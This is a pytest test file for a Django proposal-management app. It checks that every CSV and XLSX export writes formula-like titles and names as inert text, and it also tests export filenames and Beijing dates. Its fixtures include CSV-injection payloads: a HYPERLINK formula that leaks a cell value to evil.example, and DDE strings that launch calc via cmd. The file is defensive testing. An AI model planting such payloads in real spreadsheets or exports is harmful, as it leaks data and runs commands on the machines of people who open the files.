"""Every CSV and XLSX the product hands out keeps text as text.

Titles, agency names and member names that read as spreadsheet formulas (they come in through the
intake import from members' spreadsheets) are put in the data; then every export is opened and
every cell checked: no XLSX formula, no CSV cell beginning with = + - @, a tab or a carriage return
(such a text is written with a leading apostrophe), and the characters after it unchanged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from proposals.models import Agency, Meeting, Member, Proposal
from reports.tables import TABLES

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(counted):
    """The counted meeting with every title, agency and member named like a formula."""
    for index, proposal in enumerate(Proposal.objects.order_by("pk")):
        Proposal.objects.filter(pk=proposal.pk).update(title=f"{HOSTILE[index % len(HOSTILE)]}关于{index}")
    for index, agency in enumerate(Agency.objects.order_by("pk")):
        Agency.objects.filter(pk=agency.pk).update(name=f"{HOSTILE[index % len(HOSTILE)]}局{index}")
    for index, member in enumerate(Member.objects.order_by("pk")):
        Member.objects.filter(pk=member.pk).update(name=f"{HOSTILE[index % len(HOSTILE)]}委员{index}")
    return counted


def list_export(client, path: str, fmt: str):
    page = client.get(f"{path}export/")
    assert page.status_code == 200
    form = page.context["form"]
    choice = next(value for value, label in form.fields["format"].choices if fmt in str(label).lower())
    data = {"format": choice}
    if "resource" in form.fields:
        data["resource"] = form.fields["resource"].choices[0][0]
    return client.post(f"{path}export/", data)


def every_export(client, meeting):
    for slug in TABLES:
        for fmt in ("xlsx", "csv"):
            yield f"统计表 {slug}.{fmt}", fmt, client.get(f"/admin/reports/dashboard/export/{slug}.{fmt}?meeting={meeting.pk}")
    for path in ("/admin/proposals/proposal/", "/admin/proposals/assignment/", "/admin/replies/reply/"):
        for fmt in ("xlsx", "csv"):
            yield f"{path} {fmt}", fmt, list_export(client, path, fmt)


def xlsx_cells(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), f"a formula in {name}"
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]


def csv_cells(content: bytes) -> list:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_export_writes_formula_like_text_as_inert_text(client, clerk, hostile):
    client.force_login(clerk)
    seen_hostile = set()
    for label, fmt, response in every_export(client, hostile.meeting):
        assert response.status_code == 200, label
        cells = xlsx_cells(response.content) if fmt == "xlsx" else csv_cells(response.content)
        for cell in cells:
            if not isinstance(cell, str):
                continue
            if fmt == "csv":
                assert not cell.startswith(FORMULA_STARTS), (label, cell)
                text = cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell
            else:
                text = cell
            for bad in HOSTILE:
                if text.startswith(bad):
                    seen_hostile.add((label, bad))
                    assert re.fullmatch(re.escape(bad) + r"(关于|局|委员)\d+", text), (label, cell)
    # Each kind of export carried hostile text, so the checks above were not vacuous.
    labels = {label for label, _ in seen_hostile}
    for expected in ("统计表 agencies.xlsx", "统计表 agencies.csv", "统计表 follow_up.csv",
                     "/admin/proposals/proposal/ xlsx", "/admin/proposals/proposal/ csv",
                     "/admin/proposals/assignment/ csv", "/admin/replies/reply/ xlsx"):
        assert expected in labels, expected


def test_every_export_opens_on_the_demo_data(client, settings):
    """What `make run` loads: the demo meeting at every stage (key.xlsx answered 500 on it)."""
    settings.DEBUG = True  # the command refuses to run otherwise
    call_command("create_demo_accounts", stdout=io.StringIO())
    settings.DEBUG = False
    client.force_login(get_user_model().objects.get(username="clerk"))
    for label, fmt, response in every_export(client, Meeting.objects.order_by("pk").first()):
        assert response.status_code == 200, label
        cells = xlsx_cells(response.content) if fmt == "xlsx" else csv_cells(response.content)
        assert cells, label


def test_the_key_proposals_table_exports_as_xlsx(client, clerk, counted):
    """Its title, 重点提案/建议办理状态, holds a "/" that a sheet title may not: it answered 500."""
    client.force_login(clerk)
    response = client.get(f"/admin/reports/dashboard/export/key.xlsx?meeting={counted.meeting.pk}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.worksheets[0].title == "重点提案、建议办理状态"
    assert "%E9%87%8D%E7%82%B9%E6%8F%90%E6%A1%88%E3%80%81" in response["Content-Disposition"]  # 重点提案、


def test_proposal_list_export_speaks_chinese_and_names_the_day_in_beijing(client, clerk, counted):
    client.force_login(clerk)
    response = list_export(client, "/admin/proposals/proposal/", "csv")
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"].endswith(f"_{today}.csv")
    assert "Proposal" not in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = rows[0]
    for column in ("领衔人", "主办单位", "最近期限", "重点提案/建议"):
        assert column in header
    by_number = {row[header.index("编号")]: row for row in rows[1:]
                 if row[header.index("会议")] == counted.meeting.name}
    first = by_number["1"]
    assert first[header.index("重点提案/建议")] == "是"
    assert first[header.index("领衔人")] == "张建山"
    assert first[header.index("主办单位")] == "广州市科学技术局"
    assert {row[header.index("重点提案/建议")] for row in rows[1:]} <= {"是", "否"}


def test_an_export_at_four_in_the_morning_in_beijing_carries_that_day(client, clerk, counted, monkeypatch):
    """20:00 UTC on 7 December is 04:00 on 8 December in Beijing: the file is the 8th's list."""
    client.force_login(clerk)
    page = client.get("/admin/proposals/proposal/export/")
    form = page.context["form"]
    choice = next(value for value, label in form.fields["format"].choices if "csv" in str(label).lower())
    evening_utc = dt.datetime(2026, 12, 7, 20, 0, tzinfo=dt.timezone.utc)
    monkeypatch.setattr(timezone, "now", lambda: evening_utc)
    response = client.post("/admin/proposals/proposal/export/", {"format": choice})
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''%E6%8F%90%E6%A1%88%E3%80%81%E5%BB%BA%E8%AE%AE%E6%B8%85%E5%8D%95_2026-12-08.csv"
    )  # 提案、建议清单_2026-12-08.csv
